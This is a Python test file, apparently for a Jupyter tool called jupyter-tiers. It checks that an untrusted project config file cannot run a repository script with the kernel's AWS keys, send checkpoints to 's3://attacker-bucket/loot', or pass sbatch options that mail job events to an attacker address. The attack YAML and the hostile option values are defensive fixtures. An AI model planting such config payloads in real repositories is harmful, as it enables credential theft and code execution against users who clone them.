"""Issue 26: the HIGH reproductions of the third review, and the allowlist itself.

(1) A project ./tiers.yaml adds its own ``tier: local`` profile, makes it the default, gives it
``defaults: {python: ./tools/py}`` and ``object_store: {credentials: kernel}``: plain
``jupyter tiers doctor`` (and the server's doctor, actions.doctor) in that directory ran
``./tools/py`` and handed it the kernel's AWS keys. It must run nothing.
(2) ``defaults.checkpoint_to: s3://attacker-bucket/loot`` on a trusted profile (and on the built-in
``local``) from a project file: the watcher uploaded the user's checkpoint there. It is refused.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from jupyter_tiers.config import profiles as config
from jupyter_tiers.config import project_trust
from jupyter_tiers.config.profiles import ConfigError, load_config
from jupyter_tiers.spec.options import JOB_OPTIONS, SERVE_OPTIONS, profile_keys

ATTACK = """
profiles:
  mine:
    tier: local
    defaults: {python: ./tools/py}
    object_store: {bucket: loot, endpoint_url: "https://store.example", credentials: kernel}
default_profile: mine
"""
AWS = {"AWS_ACCESS_KEY_ID": "AKIAKERNELKEY0000000", "AWS_SECRET_ACCESS_KEY": "kernel-secret-key-value"}


@pytest.fixture()
def cloned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned repository as the working directory: its tiers.yaml and an executable
    ./tools/py that records that it ran and what it was given on stdin. No trusted layer but the
    built-in local profile."""
    repo = tmp_path / "repo"
    (repo / "tools").mkdir(parents=True)
    (repo / "tiers.yaml").write_text(ATTACK, encoding="utf-8")
    py = repo / "tools" / "py"
    py.write_text(f"#!/bin/sh\necho ran >> {tmp_path}/ran\ncat >> {tmp_path}/stdin\n", encoding="utf-8")
    py.chmod(0o755)
    monkeypatch.setattr(config, "SYSTEM_PATH", tmp_path / "no-etc" / "tiers.yaml")
    monkeypatch.setattr(config, "USER_PATH", tmp_path / "no-user" / "tiers.yaml")
    monkeypatch.delenv(config.ENV_VAR, raising=False)
    monkeypatch.delenv(config.TRUST_ENV_VAR, raising=False)
    for k, v in AWS.items():
        monkeypatch.setenv(k, v)
    monkeypatch.chdir(repo)
    return tmp_path


def _ran_nothing(root: Path) -> None:
    assert not (root / "ran").exists(), "the project's ./tools/py ran"
    assert not (root / "stdin").exists()


def test_high1_plain_jupyter_tiers_doctor_runs_nothing(cloned: Path) -> None:
    env = {**os.environ, "HOME": str(cloned / "home"), "JUPYTER_DATA_DIR": str(cloned / "data")}
    run = subprocess.run([sys.executable, "-c", "import sys; from jupyter_tiers.faces.cli import main; "
                          "sys.exit(main(['doctor']))"], cwd=cloned / "repo", env=env,
                         capture_output=True, text=True, timeout=300, check=False)
    _ran_nothing(cloned)
    assert run.returncode != 0
    out = run.stdout + run.stderr
    assert "profiles.mine.defaults.python" in out and "profiles.mine.object_store" in out
    assert "default_profile" in out and "trust_project_config: true" in out
    assert AWS["AWS_SECRET_ACCESS_KEY"] not in out


def test_high1_the_servers_doctor_runs_nothing(cloned: Path) -> None:
    """What the sidebar's Check calls (server/handlers.py's DoctorHandler -> actions.doctor)."""
    from jupyter_tiers.app import actions
    from jupyter_tiers.config import cache as config_cache

    config_cache.clear()
    with pytest.raises(config.ProjectFileRefused) as info:
        actions.doctor(["mine"])
    _ran_nothing(cloned)
    keys = {r.key for r in info.value.refusals}
    assert {"profiles.mine.defaults.python", "profiles.mine.object_store", "default_profile"} <= keys


def test_high1_a_project_defined_profile_is_never_probed(cloned: Path) -> None:
    """Defence in depth: even a project-defined profile that reached the doctor (a future key, a
    bug in the refusals) runs no interpreter and sends no keys."""
    from jupyter_tiers.data.objectstore import parse_object_store
    from jupyter_tiers.doctor import check_profile
    from jupyter_tiers.doctor.local import probe
    from jupyter_tiers.doctor.objectstore_probe import probe as s3_probe

    store = {"bucket": "loot", "endpoint_url": "https://store.example", "credentials": "kernel"}
    prof = config.Profile(name="mine", tier="local", defaults={"python": "./tools/py"},
                          settings={"object_store": store}, sources=(str(cloned / "repo" / "tiers.yaml"),),
                          project_defined=True)
    report = check_profile(prof)
    assert [c.name for c in report.checks] == ["project file"]
    assert "runs nothing" in report.checks[0].detail and "trust_project_config" in report.checks[0].fix
    assert "not run" in probe(prof).python_error
    assert "not run" in s3_probe(prof, parse_object_store(store, "local")).error
    _ran_nothing(cloned)


@pytest.mark.parametrize("profile", ["hpc", "local"])
def test_high2_checkpoint_to_on_a_trusted_profile_is_refused(cloned: Path, profile: str) -> None:
    user = cloned / "no-user" / "tiers.yaml"
    user.parent.mkdir()
    user.write_text("profiles:\n  hpc: {tier: slurm, host: login.example}\n", encoding="utf-8")
    (cloned / "repo" / "tiers.yaml").write_text(
        f"profiles:\n  {profile}:\n    defaults: {{checkpoint_to: 's3://attacker-bucket/loot'}}\n",
        encoding="utf-8")
    with pytest.raises(config.ProjectFileRefused) as info:
        load_config()
    trusted = "jupyter-tiers (built in)" if profile == "local" else str(user)
    assert str(info.value).splitlines()[1] == (
        f'  profiles.{profile}.defaults.checkpoint_to = "s3://attacker-bucket/loot": decides where files '
        f"and credentials go; {profile} is defined in {trusted}")


# --- the allowlist is complete: every key has a row, on purpose --------------------------------

def _all_keys() -> set[str]:
    profile = {k for t in config.TIER_KEYS.values() for k in t}
    defaults = set(profile_keys(JOB_OPTIONS)) | set(profile_keys(SERVE_OPTIONS))
    return profile | {f"defaults.{k}" for k in defaults}


def test_every_profile_key_and_default_option_has_a_row() -> None:
    """A new option or profile key fails here until someone decides, in project_trust.py's
    table, whether a project file may set it."""
    missing = sorted(_all_keys() - set(config.PROJECT_KEYS))
    assert not missing, f"add a row to project_trust._TABLE for: {', '.join(missing)}"
    stale = sorted(set(config.PROJECT_KEYS) - _all_keys())
    assert not stale, f"rows for keys that no longer exist: {', '.join(stale)}"


def test_an_unlisted_key_is_refused() -> None:
    row = project_trust.rule("defaults.some_new_option")
    assert not row.on_trusted and not row.on_own


@pytest.mark.parametrize("key", ["defaults.python", "defaults.image", "defaults.sbatch_options",
                                 "defaults.sync", "defaults.checkpoint_to", "defaults.checkpoint_dir",
                                 "object_store", "model_volume", "path_map", "namespace", "service_type",
                                 "ingress_class", "ingress_annotations", "fetch_image", "setup",
                                 "load_limit_rps", "stale_after", "sync_max_mb", "image_pull_secrets",
                                 "defaults.secret_env", "kubeconfig", "ssh_config"])
def test_the_issues_named_keys_are_refused_everywhere(key: str) -> None:
    row = config.PROJECT_KEYS[key]
    assert not row.on_trusted and not row.on_own


def test_a_project_file_may_not_shadow_the_built_in_local(cloned: Path) -> None:
    (cloned / "repo" / "tiers.yaml").write_text(
        "profiles:\n  local:\n    tier: slurm\n    host: evil.example\n", encoding="utf-8")
    with pytest.raises(config.ProjectFileRefused) as info:
        load_config()
    assert {r.key for r in info.value.refusals} == {"profiles.local.tier", "profiles.local.host"}


def test_a_project_file_may_choose_among_the_trusted_clusters_resources(cloned: Path) -> None:
    (cloned / "repo" / "tiers.yaml").write_text(textwrap.dedent("""
        profiles:
          local:
            defaults: {nodes: 1, nproc_per_node: 2, time: "00:10:00", metrics: {acc: "acc=([0-9.]+)"}}
            env: {OMP_NUM_THREADS: "2", NCCL_DEBUG: INFO}
    """), encoding="utf-8")
    prof = load_config().profile("local")
    assert prof.defaults["nproc_per_node"] == 2 and not prof.project_defined


def test_opting_in_trusts_the_project_file(cloned: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
    cfg = load_config()
    assert cfg.default_profile == "mine" and not cfg.profile("mine").project_defined


def test_project_refusals_are_config_errors(cloned: Path) -> None:
    with pytest.raises(ConfigError):
        load_config()


# --- part 4: passthrough options and ingress snippets refused from any file ---------------------

@pytest.mark.parametrize("opt", ["--container=/srv/evil-bundle", "--container-id=abc",
                                 "--export-file=/tmp/env", "--mail-user=attacker@example.com",
                                 "--mail-u=a@example.com", "--export-f=x"])
def test_passthrough_options_that_choose_code_or_a_destination_are_refused(opt: str) -> None:
    from jupyter_tiers.core.errors import SpecError
    from jupyter_tiers.spec.jobspec import parse_sbatch_option

    with pytest.raises(SpecError) as info:
        parse_sbatch_option(opt)
    assert info.value.problem.startswith(f"{opt.partition('=')[0]} cannot be passed through")


def test_a_refused_passthrough_option_is_refused_in_a_trusted_file(cloned: Path) -> None:
    user = cloned / "no-user" / "tiers.yaml"
    user.parent.mkdir()
    user.write_text("profiles:\n  hpc: {tier: slurm, host: h.example, defaults: {sbatch_options: "
                    "[--hold, --mail-user=x@example.com]}}\n", encoding="utf-8")
    (cloned / "repo" / "tiers.yaml").unlink()
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key == "profiles.hpc.defaults.sbatch_options[1]"
    assert "sends the job's events to an address" in info.value.problem


@pytest.mark.parametrize("key", ["nginx.ingress.kubernetes.io/configuration-snippet",
                                 "nginx.ingress.kubernetes.io/server-snippet", "example.com/Auth-Snippet"])
def test_snippet_annotations_need_the_opt_in_even_in_a_trusted_file(
        cloned: Path, monkeypatch: pytest.MonkeyPatch, key: str) -> None:
    user = cloned / "no-user" / "tiers.yaml"
    user.parent.mkdir()
    user.write_text(f"profiles:\n  s:\n    tier: kubernetes\n    ingress_annotations: {{{key}: 'x'}}\n",
                    encoding="utf-8")
    (cloned / "repo" / "tiers.yaml").unlink()
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key == f"profiles.s.ingress_annotations.{key}"
    assert "configures the ingress controller itself" in info.value.problem
    assert "trust_project_config: true" in info.value.problem
    monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
    assert key in load_config().profile("s").get("ingress_annotations")


def test_ordinary_annotations_stay_allowed_in_a_trusted_file(cloned: Path) -> None:
    user = cloned / "no-user" / "tiers.yaml"
    user.parent.mkdir()
    user.write_text("profiles:\n  s:\n    tier: kubernetes\n    ingress_annotations: "
                    "{nginx.ingress.kubernetes.io/proxy-body-size: 64m}\n", encoding="utf-8")
    (cloned / "repo" / "tiers.yaml").unlink()
    assert load_config().profile("s").get("ingress_annotations")


def test_a_new_profile_key_is_refused_from_a_project_file_until_it_has_a_row(
        cloned: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A key someone adds to a tier (here ``brand_new``) without deciding its row is refused."""
    monkeypatch.setitem(config.TIER_KEYS["local"], "brand_new", str)
    (cloned / "repo" / "tiers.yaml").write_text("profiles:\n  local:\n    brand_new: x\n", encoding="utf-8")
    with pytest.raises(config.ProjectFileRefused) as info:
        load_config()
    assert str(info.value).splitlines()[1] == (
        '  profiles.local.brand_new = "x": decides something no row of the project-file allowlist '
        "names; local is defined in jupyter-tiers (built in)")
